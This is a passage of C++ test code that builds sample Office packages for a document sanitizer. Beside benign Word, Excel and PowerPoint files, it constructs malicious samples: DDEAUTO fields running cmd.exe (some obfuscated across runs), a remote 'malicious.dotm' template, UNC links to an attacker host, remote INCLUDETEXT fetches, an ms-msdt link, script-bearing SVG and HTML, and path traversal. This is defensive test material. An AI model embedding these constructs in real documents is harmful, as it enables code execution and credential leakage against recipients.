#include "formats/ooxml/samples.hpp"

#include <iterator>

namespace sanitize::formats::ooxml::testing {
namespace {

constexpr std::string_view kDeclaration =
    "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\r\n";
constexpr std::string_view kWordCt =
    "application/vnd.openxmlformats-officedocument.wordprocessingml.";
constexpr std::string_view kExcelCt =
    "application/vnd.openxmlformats-officedocument.spreadsheetml.";
constexpr std::string_view kOffice2006 = "http://schemas.microsoft.com/office/2006/relationships/";
constexpr std::string_view kChartCt =
    "application/vnd.openxmlformats-officedocument.drawingml.chart+xml";

std::string xml(std::string_view body) {
  return std::string(kDeclaration) + std::string(body);
}

std::string type(std::string_view prefix, std::string_view suffix) {
  return std::string(prefix) + std::string(suffix);
}

std::string word_part(std::string_view root, std::string_view content) {
  return xml("<w:" + std::string(root) + std::string(kWordNamespaces) + ">" + std::string(content) +
             "</w:" + std::string(root) + ">");
}

std::string inline_graphic(int id, std::string_view uri, std::string_view graphic) {
  const std::string n = std::to_string(id);
  return R"(<w:r><w:drawing><wp:inline distT="0" distB="0" distL="0" distR="0">)"
         R"(<wp:extent cx="952500" cy="952500"/><wp:docPr id=")" +
         n + R"(" name="Object )" + n + R"("/><a:graphic><a:graphicData uri=")" + std::string(uri) +
         R"(">)" + std::string(graphic) +
         "</a:graphicData></a:graphic></wp:inline></w:drawing></w:r>";
}

// An inline picture; `attributes` and `children` go into its a:blip.
std::string picture_run(int id, std::string_view embed, std::string_view attributes = {},
                        std::string_view children = {}) {
  const std::string n = std::to_string(id);
  return inline_graphic(
      id, "http://schemas.openxmlformats.org/drawingml/2006/picture",
      R"(<pic:pic><pic:nvPicPr><pic:cNvPr id=")" + n + R"(" name="picture )" + n +
          R"("/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:embed=")" +
          std::string(embed) + "\"" + std::string(attributes) + ">" + std::string(children) +
          R"(</a:blip><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/>)"
          R"(<a:ext cx="952500" cy="952500"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom>)"
          R"(</pic:spPr></pic:pic>)");
}

std::string chart_part(bool with_data) {
  return xml(
      R"(<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart")"
      R"( xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main")"
      R"( xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">)"
      R"(<c:chart><c:plotArea><c:layout/><c:barChart><c:barDir val="col"/><c:grouping val="clustered"/>)"
      R"(<c:ser><c:idx val="0"/><c:order val="0"/><c:tx><c:v>予算 Budget</c:v></c:tx><c:cat><c:strRef>)"
      R"(<c:f>Sheet1!$A$2:$A$3</c:f><c:strCache><c:ptCount val="2"/><c:pt idx="0"><c:v>東京</c:v></c:pt>)"
      R"(<c:pt idx="1"><c:v>大阪</c:v></c:pt></c:strCache></c:strRef></c:cat><c:val><c:numRef>)"
      R"(<c:f>Sheet1!$B$2:$B$3</c:f><c:numCache><c:formatCode>General</c:formatCode><c:ptCount val="2"/>)"
      R"(<c:pt idx="0"><c:v>120</c:v></c:pt><c:pt idx="1"><c:v>80</c:v></c:pt></c:numCache></c:numRef>)"
      R"(</c:val></c:ser><c:axId val="1"/><c:axId val="2"/></c:barChart><c:catAx><c:axId val="1"/>)"
      R"(<c:scaling><c:orientation val="minMax"/></c:scaling><c:delete val="0"/><c:axPos val="b"/>)"
      R"(<c:crossAx val="2"/></c:catAx><c:valAx><c:axId val="2"/><c:scaling><c:orientation val="minMax"/>)"
      R"(</c:scaling><c:delete val="0"/><c:axPos val="l"/><c:crossAx val="1"/></c:valAx></c:plotArea>)"
      R"(</c:chart>)" +
      std::string(with_data ? R"(<c:externalData r:id="rIdData"/>)" : "") + "</c:chartSpace>");
}

std::string chart(int id, std::string_view rel) {
  return inline_graphic(id, "http://schemas.openxmlformats.org/drawingml/2006/chart",
                        R"(<c:chart r:id=")" + std::string(rel) + R"("/>)");
}

std::string settings(std::string_view content) {
  return word_part("settings", content);
}

Package& add_settings(Package& package, std::string_view content) {
  return package.part("word/settings.xml", type(kWordCt, "settings+xml"), settings(content))
      .relate("word/document.xml", "rIdSettings", "settings", "settings.xml");
}

std::string ole_object(std::string_view image_rel, std::string_view object_rel,
                       std::string_view prog_id) {
  return R"(<w:r><w:object w:dxaOrig="1440" w:dyaOrig="1440"><v:shape id="_x0000_i1025")"
         R"( type="#_x0000_t75" style="width:72pt;height:72pt" o:ole=""><v:imagedata r:id=")" +
         std::string(image_rel) + R"(" o:title=""/></v:shape><o:OLEObject Type="Embed" ProgID=")" +
         std::string(prog_id) +
         R"(" ShapeID="_x0000_i1025" DrawAspect="Icon" ObjectID="_1" r:id=")" +
         std::string(object_rel) + R"("/></w:object></w:r>)";
}

std::string cell(std::string_view ref, std::string_view value) {
  return "<c r=\"" + std::string(ref) + "\"><v>" + std::string(value) + "</v></c>";
}

std::string formula_cell(std::string_view ref, std::string_view formula, std::string_view value,
                         std::string_view attributes = {}) {
  return "<c r=\"" + std::string(ref) + "\"><f" + std::string(attributes) + ">" +
         std::string(formula) + "</f><v>" + std::string(value) + "</v></c>";
}

}  // namespace

// --- benign ---------------------------------------------------------------------------------

Package word_benign() {
  const std::string table =
      R"(<w:tbl><w:tblPr><w:tblW w:w="0" w:type="auto"/></w:tblPr><w:tblGrid><w:gridCol w:w="3000"/>)"
      R"(<w:gridCol w:w="3000"/></w:tblGrid><w:tr><w:tc><w:p><w:r><w:t>区分 Item</w:t></w:r></w:p></w:tc>)"
      R"(<w:tc><w:p><w:r><w:t>金額 Amount</w:t></w:r></w:p></w:tc></w:tr><w:tr><w:tc><w:p><w:r><w:t>住民税</w:t>)"
      R"(</w:r></w:p></w:tc><w:tc><w:p><w:r><w:t>１２，０００円</w:t></w:r></w:p></w:tc></w:tr></w:tbl>)";
  std::string body = paragraph("令和6年度 予算案について（①～③）");
  body += paragraph("This document is about the budget of the city office.");
  body +=
      R"(<w:p><w:commentRangeStart w:id="0"/><w:r><w:t>ご確認ください。</w:t></w:r><w:commentRangeEnd w:id="0"/>)"
      R"(<w:r><w:commentReference w:id="0"/></w:r></w:p>)";
  body += table;
  body += "<w:p>" + picture_run(1, "rIdImage") + "</w:p>";
  body += "<w:p>" + picture_run(2, "rIdImage2") + "</w:p>";
  body += "<w:p>" + chart(3, "rIdChart") + "</w:p>";
  body +=
      R"(<w:p><w:hyperlink r:id="rIdLink"><w:r><w:t>市のホームページ</w:t></w:r></w:hyperlink></w:p>)";
  body += R"(<w:p><w:hyperlink w:anchor="top"><w:r><w:t>先頭へ</w:t></w:r></w:hyperlink></w:p>)";
  body += R"(<w:sectPr><w:headerReference w:type="default" r:id="rIdHeader"/>)"
          R"(<w:footerReference w:type="default" r:id="rIdFooter"/></w:sectPr>)";
  Package package = word_document(body);
  package.default_type("png", "image/png")
      .default_type("gif", "image/gif")
      .file("word/media/image1.png", tiny_png(0x20, 0x60, 0xC0))
      .file("word/media/image2.gif", tiny_gif())
      .relate("word/document.xml", "rIdImage", "image", "media/image1.png")
      .relate("word/document.xml", "rIdImage2", "image", "media/image2.gif")
      .part("word/charts/chart1.xml", kChartCt, chart_part(false))
      .relate("word/document.xml", "rIdChart", "chart", "charts/chart1.xml")
      .relate("word/document.xml", "rIdLink", "hyperlink", "https://www.city.example.jp/", true)
      .part("word/header1.xml", type(kWordCt, "header+xml"),
            word_part("hdr", paragraph("ヘッダー Header")))
      .relate("word/document.xml", "rIdHeader", "header", "header1.xml")
      .part("word/footer1.xml", type(kWordCt, "footer+xml"),
            word_part("ftr", "<w:p>" + complex_field(" PAGE ", "1") + "</w:p>"))
      .relate("word/document.xml", "rIdFooter", "footer", "footer1.xml")
      .part("word/comments.xml", type(kWordCt, "comments+xml"),
            word_part("comments", R"(<w:comment w:id="0" w:author="山田 太郎" w:initials="YT">)" +
                                      paragraph("金額を確認しました。") + "</w:comment>"))
      .relate("word/document.xml", "rIdComments", "comments", "comments.xml");
  add_settings(package, R"(<w:defaultTabStop w:val="840"/>)");
  return package;
}

Package excel_benign() {
  Package package = excel_workbook(
      {R"(<sheetData><row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row>)"
       R"(<row r="2"><c r="A2" t="s"><v>2</v></c><c r="B2"><v>120</v></c></row>)"
       R"(<row r="3"><c r="A3" t="s"><v>3</v></c><c r="B3"><v>80</v></c></row>)"
       R"(<row r="4"><c r="B4"><f>SUM(B2:B3)</f><v>200</v></c></row></sheetData>)"
       R"(<hyperlinks><hyperlink ref="A1" r:id="rIdLink"/></hyperlinks><drawing r:id="rIdDrawing"/>)"});
  package
      .part(
          "xl/sharedStrings.xml", type(kExcelCt, "sharedStrings+xml"),
          xml(R"(<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="4" uniqueCount="4">)"
              R"(<si><t>地域 Region</t></si><si><t>金額</t></si><si><t>東京</t></si><si><t>大阪</t></si></sst>)"))
      .relate("xl/workbook.xml", "rIdStrings", "sharedStrings", "sharedStrings.xml")
      .relate("xl/worksheets/sheet1.xml", "rIdLink", "hyperlink", "https://www.city.example.jp/",
              true)
      .part(
          "xl/drawings/drawing1.xml", "application/vnd.openxmlformats-officedocument.drawing+xml",
          xml(R"(<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing")"
              R"( xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main")"
              R"( xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships")"
              R"( xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart">)"
              R"(<xdr:twoCellAnchor><xdr:from><xdr:col>3</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>1</xdr:row>)"
              R"(<xdr:rowOff>0</xdr:rowOff></xdr:from><xdr:to><xdr:col>8</xdr:col><xdr:colOff>0</xdr:colOff>)"
              R"(<xdr:row>15</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:to><xdr:graphicFrame macro="">)"
              R"(<xdr:nvGraphicFramePr><xdr:cNvPr id="2" name="Chart 1"/><xdr:cNvGraphicFramePr/>)"
              R"(</xdr:nvGraphicFramePr><xdr:xfrm><a:off x="0" y="0"/><a:ext cx="0" cy="0"/></xdr:xfrm>)"
              R"(<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/chart">)"
              R"(<c:chart r:id="rIdChart"/></a:graphicData></a:graphic></xdr:graphicFrame><xdr:clientData/>)"
              R"(</xdr:twoCellAnchor><xdr:oneCellAnchor><xdr:from><xdr:col>0</xdr:col><xdr:colOff>0</xdr:colOff>)"
              R"(<xdr:row>6</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from><xdr:ext cx="952500" cy="952500"/>)"
              R"(<xdr:pic><xdr:nvPicPr><xdr:cNvPr id="3" name="Picture 2"/><xdr:cNvPicPr/></xdr:nvPicPr>)"
              R"(<xdr:blipFill><a:blip r:embed="rIdImage"/><a:stretch><a:fillRect/></a:stretch></xdr:blipFill>)"
              R"(<xdr:spPr><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></xdr:spPr></xdr:pic><xdr:clientData/>)"
              R"(</xdr:oneCellAnchor></xdr:wsDr>)"))
      .relate("xl/worksheets/sheet1.xml", "rIdDrawing", "drawing", "../drawings/drawing1.xml")
      .part("xl/charts/chart1.xml", kChartCt, chart_part(false))
      .relate("xl/drawings/drawing1.xml", "rIdChart", "chart", "../charts/chart1.xml")
      .default_type("png", "image/png")
      .file("xl/media/image1.png", tiny_png(0xC0, 0x40, 0x20))
      .relate("xl/drawings/drawing1.xml", "rIdImage", "image", "../media/image1.png");
  return package;
}

Package powerpoint_benign() {
  const std::string picture_shape =
      R"(<p:pic><p:nvPicPr><p:cNvPr id="3" name="Picture 2"/><p:cNvPicPr/><p:nvPr/></p:nvPicPr>)"
      R"(<p:blipFill><a:blip r:embed="rIdImage"/><a:stretch><a:fillRect/></a:stretch></p:blipFill>)"
      R"(<p:spPr><a:xfrm><a:off x="457200" y="2000000"/><a:ext cx="952500" cy="952500"/></a:xfrm>)"
      R"(<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr></p:pic>)";
  const std::string linked =
      R"(<p:sp><p:nvSpPr><p:cNvPr id="4" name="Link"/><p:cNvSpPr txBox="1"/><p:nvPr/></p:nvSpPr>)"
      R"(<p:spPr/><p:txBody><a:bodyPr/><a:lstStyle/><a:p><a:r><a:rPr lang="ja-JP">)"
      R"(<a:hlinkClick r:id="rIdLink"/></a:rPr><a:t>詳しくはこちら</a:t></a:r></a:p></p:txBody></p:sp>)";
  Package package = powerpoint_presentation(
      {text_shape(2, "令和6年度 事業計画 Business plan") + picture_shape + linked,
       text_shape(2, "ご清聴ありがとうございました。Thank you.")});
  package.default_type("png", "image/png")
      .file("ppt/media/image1.png", tiny_png(0x30, 0xA0, 0x30))
      .relate("ppt/slides/slide1.xml", "rIdImage", "image", "../media/image1.png")
      .relate("ppt/slides/slide1.xml", "rIdLink", "hyperlink", "https://www.city.example.jp/",
              true);
  return package;
}

// --- Word -----------------------------------------------------------------------------------

Package word_vba() {
  Package package = word_document(paragraph("マクロ付き文書 Document with a macro"), true);
  package.part("word/vbaProject.bin", ct::vba, "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1 fake VBA storage")
      .relate("word/document.xml", "rIdVba", type(kOffice2006, "vbaProject"), "vbaProject.bin")
      .part(
          "word/vbaData.xml", "application/vnd.ms-word.vbaData+xml",
          xml(R"(<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml">)"
              R"(<wne:mcds><wne:mcd wne:macroName="PROJECT.NEWMACROS.AUTOOPEN" wne:name="Project.NewMacros.AutoOpen")"
              R"( wne:bEncrypt="00" wne:cmg="56"/></wne:mcds></wne:vbaSuppData>)"))
      .relate("word/vbaProject.bin", "rId1", type(kOffice2006, "wordVbaData"), "vbaData.xml")
      .part("word/vbaProjectSignature.bin", "application/vnd.ms-office.vbaProjectSignature",
            "signature")
      .relate("word/vbaProject.bin", "rId2", type(kOffice2006, "vbaProjectSignature"),
              "vbaProjectSignature.bin");
  return package;
}

Package word_activex() {
  const std::string body =
      paragraph("ボタン付き文書") +
      R"(<w:p><w:r><w:object><v:shape id="_x0000_i1025" type="#_x0000_t201" style="width:90pt;height:24pt">)"
      R"(<v:imagedata r:id="rIdPreview" o:title=""/></v:shape><w:control r:id="rIdControl")"
      R"( w:name="CommandButton1" w:shapeid="_x0000_i1025"/></w:object></w:r></w:p>)";
  Package package = word_document(body);
  package.default_type("png", "image/png")
      .file("word/media/image1.png", tiny_png(0xEE, 0xEE, 0xEE))
      .relate("word/document.xml", "rIdPreview", "image", "media/image1.png")
      .part(
          "word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml",
          xml(R"(<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX")"
              R"( xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships")"
              R"( ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}" ax:persistence="persistStorage" r:id="rId1"/>)"))
      .relate("word/document.xml", "rIdControl", "control", "activeX/activeX1.xml")
      .part("word/activeX/activeX1.bin", "application/vnd.ms-office.activeX", "control data")
      .relate("word/activeX/activeX1.xml", "rId1", type(kOffice2006, "activeXControlBinary"),
              "activeX1.bin");
  return package;
}

Package word_ole_object() {
  const std::string body = paragraph("埋め込みオブジェクト Embedded object") + "<w:p>" +
                           ole_object("rIdPreview", "rIdOle", "Package") + "</w:p>";
  Package package = word_document(body);
  package.default_type("png", "image/png")
      .default_type("bin", ct::ole)
      .file("word/media/image1.png", tiny_png(0x80, 0x80, 0x80))
      .relate("word/document.xml", "rIdPreview", "image", "media/image1.png")
      .file("word/embeddings/oleObject1.bin",
            "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1 Ole10Native payload.exe")
      .relate("word/document.xml", "rIdOle", "oleObject", "embeddings/oleObject1.bin");
  return package;
}

Package word_remote_template() {
  Package package = word_document(paragraph("テンプレート Template"));
  add_settings(package, R"(<w:attachedTemplate r:id="rIdTemplate"/>)")
      .relate("word/settings.xml", "rIdTemplate", "attachedTemplate",
              "http://example.invalid/templates/malicious.dotm", true);
  return package;
}

Package word_external_content() {
  std::string body = paragraph("外部の内容 External content");
  body += "<w:p>" + picture_run(1, "rIdImage", R"( r:link="rIdRemote")") + "</w:p>";
  body +=
      R"(<w:p><w:r><w:pict><v:shape id="s1" style="width:10pt;height:10pt">)"
      R"(<v:imagedata src="\\attacker.example.invalid\share\x.png" o:title=""/></v:shape></w:pict></w:r></w:p>)";
  body += R"(<w:subDoc r:id="rIdSub"/>)";
  Package package = word_document(body);
  package.default_type("png", "image/png")
      .file("word/media/image1.png", tiny_png(0, 0, 0))
      .relate("word/document.xml", "rIdImage", "image", "media/image1.png")
      .relate("word/document.xml", "rIdRemote", "image", "http://tracker.example.invalid/pixel.png",
              true)
      .relate("word/document.xml", "rIdSub", "subDocument", "file:///C:/secret/sub.docx", true)
      .part(
          "word/webSettings.xml", type(kWordCt, "webSettings+xml"),
          word_part(
              "webSettings",
              R"(<w:frameset><w:frame><w:sourceFileName r:id="rIdFrame"/></w:frame></w:frameset>)"))
      .relate("word/document.xml", "rIdWeb", "webSettings", "webSettings.xml")
      .relate("word/webSettings.xml", "rIdFrame", "frame", "http://example.invalid/frame.htm",
              true);
  return package;
}

Package word_alt_chunk() {
  Package package =
      word_document(paragraph("前") + R"(<w:altChunk r:id="rIdChunk"/>)" + paragraph("後"));
  package
      .part("word/afchunk.htm", "text/html",
            "<html><body><script>alert(1)</script><p>imported</p></body></html>")
      .relate("word/document.xml", "rIdChunk", "aFChunk", "afchunk.htm");
  return package;
}

Package word_fields() {
  std::string body;
  // DDEAUTO split across runs; its result stays.
  body +=
      "<w:p>" +
      complex_field(" DDE|AUTO c:\\\\windows\\\\system32\\\\cmd.exe| \"/k calc.exe\" ", "結果1") +
      "</w:p>";
  // The code assembled from nested QUOTE fields: { {QUOTE 68 68 69} c:\\cmd.exe }.
  body +=
      R"(<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>)" +
      complex_field(" QUOTE 68 68 69 ", "DDE") +
      R"(<w:r><w:instrText xml:space="preserve"> c:\\windows\\system32\\cmd.exe "/c calc" </w:instrText></w:r>)"
      R"(<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>結果2</w:t></w:r>)"
      R"(<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>)";
  // A simple field whose element carries another prefix for the WordprocessingML namespace.
  body +=
      R"(<w:p><x:fldSimple xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main")"
      R"( x:instr=" DDEAUTO cmd &quot;/c calc&quot; "><w:r><w:t>結果3</w:t></w:r></x:fldSimple></w:p>)";
  body += "<w:p>" + complex_field(" INCLUDETEXT \"http://example.invalid/payload.txt\" ", "結果4") +
          "</w:p>";
  body += "<w:p>" +
          complex_field(" INCLUDEPICTURE \"http://example.invalid/pixel.png\" \\d ", "結果5") +
          "</w:p>";
  body += "<w:p>" +
          complex_field(" LINK Excel.Sheet.12 \"\\\\\\\\server\\\\share\\\\book.xlsx\" ", "結果6") +
          "</w:p>";
  body += "<w:p>" + complex_field(" IMPORT \"http://example.invalid/x.wmf\" ", "結果7") + "</w:p>";
  body +=
      "<w:p>" + complex_field(" MACROBUTTON AutoOpen ここをダブルクリック ", "結果8") + "</w:p>";
  body += "<w:p>" +
          complex_field(" HYPERLINK \"file://attacker.example.invalid/share\" ", "結果9") +
          "</w:p>";
  body += "<w:p>" + complex_field(" PAGE ", "1") + "</w:p>";
  // Both branches of alternate content hold a DDE field.
  body += R"(<w:p><mc:AlternateContent><mc:Choice Requires="w14"><w:fldSimple w:instr="DDE cmd x">)"
          R"(<w:r><w:t>結果10</w:t></w:r></w:fldSimple></mc:Choice><mc:Fallback>)"
          R"(<w:fldSimple w:instr="DDE cmd x"><w:r><w:t>結果10</w:t></w:r></w:fldSimple>)"
          R"(</mc:Fallback></mc:AlternateContent></w:p>)";
  body += R"(<w:sectPr><w:headerReference w:type="default" r:id="rIdHeader"/></w:sectPr>)";
  Package package = word_document(body);
  package
      .part("word/header1.xml", type(kWordCt, "header+xml"),
            word_part("hdr",
                      "<w:p>" + complex_field(" DDEAUTO cmd \"/c calc\" ", "見出し") + "</w:p>"))
      .relate("word/document.xml", "rIdHeader", "header", "header1.xml")
      .part(
          "word/glossary/document.xml", type(kWordCt, "document.glossary+xml"),
          word_part(
              "glossaryDocument",
              R"(<w:docParts><w:docPart><w:docPartPr><w:name w:val="Part"/></w:docPartPr><w:docPartBody>)" +
                  std::string("<w:p>") + complex_field(" DDEAUTO cmd \"/c calc\" ", "定型句") +
                  "</w:p></w:docPartBody></w:docPart></w:docParts>"))
      .relate("word/document.xml", "rIdGlossary", "glossaryDocument", "glossary/document.xml");
  return package;
}

Package word_custom_ui() {
  Package package = word_document(paragraph("リボン Ribbon"));
  package.default_type("png", "image/png")
      .part(
          "customUI/customUI14.xml", "application/xml",
          xml(R"(<customUI xmlns="http://schemas.microsoft.com/office/2009/07/customui" onLoad="Ribbon_Load">)"
              R"(<ribbon><tabs><tab id="t"><group id="g"><button id="b" onAction="RunPayload" image="icon"/>)"
              R"(</group></tab></tabs></ribbon></customUI>)"))
      .relate("", "rIdUi",
              "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility",
              "customUI/customUI14.xml")
      .file("customUI/images/icon.png", tiny_png(1, 2, 3))
      .relate("customUI/customUI14.xml", "icon", "image", "images/icon.png");
  return package;
}

Package word_web_extension() {
  Package package = word_document(paragraph("アドイン Add-in"));
  package
      .part(
          "word/webextensions/taskpanes.xml", "application/vnd.ms-office.webextensiontaskpanes+xml",
          xml(R"(<wetp:taskpanes xmlns:wetp="http://schemas.microsoft.com/office/webextensions/taskpanes/2010/11")"
              R"( xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">)"
              R"(<wetp:taskpane dockstate="right" visibility="1" width="350" row="0">)"
              R"(<wetp:webextensionref r:id="rId1"/></wetp:taskpane></wetp:taskpanes>)"))
      .relate("", "rIdPanes",
              "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes",
              "word/webextensions/taskpanes.xml")
      .part(
          "word/webextensions/webextension1.xml", "application/vnd.ms-office.webextension+xml",
          xml(R"(<we:webextension xmlns:we="http://schemas.microsoft.com/office/webextensions/webextension/2010/11" id="{1}">)"
              R"(<we:reference id="wa000000" version="1.0.0.0" store="https://example.invalid/" storeType="OMEX"/>)"
              R"(</we:webextension>)"))
      .relate("word/webextensions/taskpanes.xml", "rId1",
              "http://schemas.microsoft.com/office/2011/relationships/webextension",
              "webextension1.xml");
  return package;
}

Package word_mail_merge() {
  Package package = word_document(paragraph("差し込み印刷 Mail merge"));
  add_settings(
      package,
      R"(<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:linkToQuery/>)"
      R"(<w:dataType w:val="native"/><w:connectString w:val="Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\server\share\list.xlsx"/>)"
      R"(<w:query w:val="SELECT * FROM `Sheet1$`"/><w:dataSource r:id="rIdSource"/></w:mailMerge>)")
      .relate("word/settings.xml", "rIdSource", "mailMergeSource",
              "file:///\\\\server\\share\\list.xlsx", true);
  return package;
}

Package word_hyperlinks() {
  std::string body;
  body += R"(<w:p><w:hyperlink r:id="rIdWeb"><w:r><w:t>ウェブ Web</w:t></w:r></w:hyperlink></w:p>)";
  body +=
      R"(<w:p><w:hyperlink r:id="rIdMail"><w:r><w:t>メール Mail</w:t></w:r></w:hyperlink></w:p>)";
  body +=
      R"(<w:p><w:hyperlink r:id="rIdFile"><w:r><w:t>ファイル File</w:t></w:r></w:hyperlink></w:p>)";
  body += R"(<w:p><w:hyperlink r:id="rIdUnc"><w:r><w:t>共有 Share</w:t></w:r></w:hyperlink></w:p>)";
  body +=
      R"(<w:p><w:hyperlink r:id="rIdRelative"><w:r><w:t>相対 Relative</w:t></w:r></w:hyperlink></w:p>)";
  body +=
      R"(<w:p><w:hyperlink r:id="rIdProgram"><w:r><w:t>プログラム Program</w:t></w:r></w:hyperlink></w:p>)";
  Package package = word_document(body);
  package.relate("word/document.xml", "rIdWeb", "hyperlink", "https://www.example.jp/a?b=c", true)
      .relate("word/document.xml", "rIdMail", "hyperlink", "mailto:info@example.jp", true)
      .relate("word/document.xml", "rIdFile", "hyperlink", "file:///C:/Windows/System32/calc.exe",
              true)
      .relate("word/document.xml", "rIdUnc", "hyperlink", "\\\\attacker.example.invalid\\share\\x",
              true)
      .relate("word/document.xml", "rIdRelative", "hyperlink", "..\\..\\payload.exe", true)
      .relate("word/document.xml", "rIdProgram", "hyperlink", "ms-msdt:/id PCWDiagnostic", true);
  return package;
}

Package word_pictures() {
  const std::string svg_extension =
      R"(<a:extLst><a:ext uri="{96DAC541-7B7A-43D3-8B79-37D633B846F1}"><asvg:svgBlip)"
      R"( xmlns:asvg="http://schemas.microsoft.com/office/drawing/2016/SVG/main" r:embed="rIdSvg"/>)"
      R"(</a:ext></a:extLst>)";
  std::string body = paragraph("画像 Pictures");
  body += "<w:p>" + picture_run(1, "rIdEmf") + "</w:p>";
  body += "<w:p>" + picture_run(2, "rIdPng", {}, svg_extension) + "</w:p>";
  body += "<w:p>" + picture_run(3, "rIdFake") + "</w:p>";
  Package package = word_document(body);
  package.default_type("png", "image/png")
      .default_type("emf", "image/x-emf")
      .default_type("svg", "image/svg+xml")
      .file("word/media/image1.emf", tiny_emf())
      .relate("word/document.xml", "rIdEmf", "image", "media/image1.emf")
      .file("word/media/image2.png", tiny_png(9, 9, 9))
      .relate("word/document.xml", "rIdPng", "image", "media/image2.png")
      .file("word/media/image3.svg",
            R"(<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>)")
      .relate("word/document.xml", "rIdSvg", "image", "media/image3.svg")
      .file("word/media/image4.png", tiny_gif())
      .relate("word/document.xml", "rIdFake", "image", "media/image4.png");
  return package;
}

Package word_embedded_font() {
  Package package = word_document(paragraph("フォント Font"));
  package
      .part(
          "word/fontTable.xml", type(kWordCt, "fontTable+xml"),
          word_part(
              "fonts",
              R"(<w:font w:name="Special Font"><w:embedRegular r:id="rIdFont" w:fontKey="{00000000-0000-0000-0000-000000000000}"/></w:font>)"))
      .relate("word/document.xml", "rIdFonts", "fontTable", "fontTable.xml")
      .part("word/fonts/font1.odttf",
            "application/vnd.openxmlformats-officedocument.obfuscatedFont", "obfuscated font data")
      .relate("word/fontTable.xml", "rIdFont", "font", "fonts/font1.odttf");
  return package;
}

Package word_signature() {
  Package package = word_document(paragraph("署名 Signed"));
  package
      .part("_xmlsignatures/origin.sigs",
            "application/vnd.openxmlformats-package.digital-signature-origin", "")
      .relate(
          "", "rIdSig",
          "http://schemas.openxmlformats.org/package/2006/relationships/digital-signature/origin",
          "_xmlsignatures/origin.sigs")
      .part("_xmlsignatures/sig1.xml",
            "application/vnd.openxmlformats-package.digital-signature-xmlsignature+xml",
            xml(R"(<Signature xmlns="http://www.w3.org/2000/09/xmldsig#"/>)"))
      .relate("_xmlsignatures/origin.sigs", "rId1",
              "http://schemas.openxmlformats.org/package/2006/relationships/digital-signature/"
              "signature",
              "sig1.xml");
  return package;
}

Package word_package_oddities() {
  Package package =
      word_document(paragraph("本文 Body") + R"(<w:p><w:r><w:t>参照</w:t></w:r></w:p>)");
  package.part("word/unknown.xml", "application/x-unknown+xml", xml("<unknown/>"))
      .relate("word/document.xml", "rIdUnknown", "http://example.invalid/relationships/strange",
              "unknown.xml")
      .part("word/orphan.xml", "application/xml", xml("<orphan/>"))
      .relate("word/document.xml", "rIdMissing", "image", "media/missing.png")
      .part(
          "word/numbering.xml", type(kWordCt, "numbering+xml"),
          std::string(kDeclaration) +
              R"(<!DOCTYPE w:numbering [<!ENTITY e "entity">]><?evil instruction?>)"
              R"(<w:numbering xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>)")
      .relate("word/document.xml", "rIdNumbering", "numbering", "numbering.xml")
      .raw_entry("../evil.xml", "<evil/>")
      .comment("hidden comment");
  return package;
}

Package word_embedded_document(const std::string& inner) {
  const std::string body = paragraph("埋め込み文書 Embedded document") + "<w:p>" +
                           ole_object("rIdPreview", "rIdPackage", "Word.Document.12") + "</w:p>";
  Package package = word_document(body);
  package.default_type("png", "image/png")
      .file("word/media/image1.png", tiny_png(0x11, 0x22, 0x33))
      .relate("word/document.xml", "rIdPreview", "image", "media/image1.png")
      .part("word/embeddings/Microsoft_Word_Document.docm",
            "application/vnd.ms-word.document.macroEnabled.12", inner)
      .relate("word/document.xml", "rIdPackage", "package",
              "embeddings/Microsoft_Word_Document.docm");
  return package;
}

Package word_chart_with_data() {
  Package package =
      word_document(paragraph("グラフ Chart") + "<w:p>" + chart(1, "rIdChart") + "</w:p>");
  package.part("word/charts/chart1.xml", kChartCt, chart_part(true))
      .relate("word/document.xml", "rIdChart", "chart", "charts/chart1.xml")
      .part("word/embeddings/Microsoft_Excel_Worksheet.xlsx",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
            excel_workbook({"<sheetData/>"}).build())
      .relate("word/charts/chart1.xml", "rIdData", "package",
              "../embeddings/Microsoft_Excel_Worksheet.xlsx");
  return package;
}

// --- Excel ----------------------------------------------------------------------------------

Package excel_vba() {
  Package package = excel_workbook({"<sheetData>" + cell("A1", "1") + "</sheetData>"}, true);
  package.part("xl/vbaProject.bin", ct::vba, "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1 fake VBA")
